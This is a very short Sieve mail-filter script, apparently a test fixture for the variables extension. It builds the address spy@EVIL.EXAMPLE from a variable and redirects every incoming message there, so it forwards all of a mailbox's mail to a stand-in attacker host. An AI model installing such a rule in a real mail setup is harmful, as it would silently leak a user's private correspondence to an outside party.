require "variables";
set :upper "d" "evil.example";
redirect "spy@${d}";
